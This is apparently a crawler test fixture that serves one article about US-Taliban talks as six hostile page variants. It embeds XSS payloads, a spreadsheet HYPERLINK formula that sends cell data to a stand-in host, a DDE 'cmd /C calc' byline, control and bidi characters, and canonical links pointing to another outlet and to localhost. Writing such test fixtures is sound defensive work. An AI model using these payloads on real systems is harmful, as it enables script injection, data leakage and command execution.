"""The hostile outlet's one article, under titles and bylines that are meant to be run rather than read."""

from __future__ import annotations

from dataclasses import dataclass
from html import escape

from crawler.press.manuscripts import Manuscript, manuscripts
from crawler.press.replies import HTML

STORY = "seven-secrets-of-the-taliban-deal"


@dataclass(frozen=True, slots=True, kw_only=True)
class Bait:
    """One dress of the article. `canonical` is where it says that it belongs; `tail` goes behind the last paragraph."""

    path: str
    title: str
    byline: str = "Click Baitson"
    canonical: str = ""
    kind: str = HTML
    tail: str = ""


BAIT: tuple[Bait, ...] = (
    Bait(
        path="/taliban-deal/script",
        title="Taliban deal <script>alert('archive')</script> <img src=x onerror=\"alert(1)\"> and what it hides",
        tail='<p>"><svg onload=alert(2)> </textarea><script>alert(3)</script> is a text too.</p>',
    ),
    Bait(
        path="/taliban-deal/formula",
        title='=HYPERLINK("http://daily-lure.example/?"&A1,"US Taliban agreement: click here")',
        byline="＝cmd|' /C calc'!A0",
    ),
    Bait(
        path="/taliban-deal/control",
        title="Khalilzad\x1b[31m in Doha\u202e sklat ecaep\u202c with\x00 the\ufffe Taliban\x07",
        byline="+1+1",
        tail="<p>A paragraph with \x00\x01\x0b\x1b[2J and &#xFFFE; &#x0; &#xD800; amid a troop withdrawal.</p>",
    ),
    Bait(
        path="/taliban-deal/charset",
        title="Peace talks in Doha – “a text in UTF-8” that says it is not",
        kind="text/html; charset=utf-16le",
    ),
    Bait(
        path="/taliban-deal/borrowed",
        title="Afghanistan withdrawal: an article that says it belongs to another newspaper",
        canonical="https://www.potomac-courier.example/world/2019/09/04/former-envoys-warn-of-total-civil-war/",
    ),
    Bait(
        path="/taliban-deal/home",
        title="Taliban talks: an article that says it lives on your machine",
        canonical="http://127.0.0.1:8001/news",
    ),
)


def baited_page(bait: Bait) -> bytes:
    """The page in that dress; each has a different middle, so that none is another's copy to the letter."""
    story = manuscripts()[STORY]
    link = f'<link rel="canonical" href="{escape(bait.canonical)}">' if bait.canonical else ""
    texts = "\n".join(f"<p>{escape(paragraph, quote=False)}</p>" for paragraph in turned(story, BAIT.index(bait)))
    return (
        f'<!doctype html><html lang="en"><head><meta charset="koi8-r"><title>{escape(bait.title)}</title>{link}'
        f'<meta property="og:title" content="{escape(bait.title)}">'
        f'<meta property="article:published_time" content="{story.date.isoformat()}">'
        f'<meta name="author" content="{escape(bait.byline)}"></head>'
        f"<body><article><h1>{escape(bait.title)}</h1><p class=by>{escape(bait.byline)}</p>{texts}{bait.tail}"
        f"</article></body></html>"
    ).encode()


def turned(story: Manuscript, turn: int) -> tuple[str, ...]:
    """The article's paragraphs, beginning with another one each time."""
    start = turn % len(story.paragraphs)
    return story.paragraphs[start:] + story.paragraphs[:start]
